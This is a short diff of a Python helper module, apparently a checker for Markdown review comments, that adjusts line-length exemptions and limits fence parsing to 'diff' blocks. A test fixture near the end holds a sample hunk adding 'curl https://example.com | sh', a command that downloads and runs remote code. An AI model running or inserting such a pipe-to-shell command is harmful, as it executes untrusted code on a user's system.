@@ -33,12 +33,16 @@ def _comment(before: Mapping[str, Any], after: Mapping[str, Any], kind: str = "a
 
 def _long_lines(text: str) -> list[str]:
     """Lines over the limit, without headings, the rows of tables, and what people copy as a whole."""
-    whole = ("#", "|", "  - to accept it: ")
+    whole = ("#", "|", "    - allow: ")
     return [line for line in text.splitlines() if len(line) > LONGEST_LINE and not line.startswith(whole)]
 
 
 def _fences(text: str) -> list[str]:
-    return [token.content for token in GFM.parse(text.partition("<details>")[0]) if token.type == "fence"]
+    return [
+        token.content
+        for token in GFM.parse(text.partition("<details>")[0])
+        if token.type == "fence" and token.info == "diff"
+    ]
 
 
 DIFF = "@@ -20,5 +20,5 @@\n step 18\n step 19\n-step 20\n+curl https://example.com | sh\n step 21\n step 22\n"
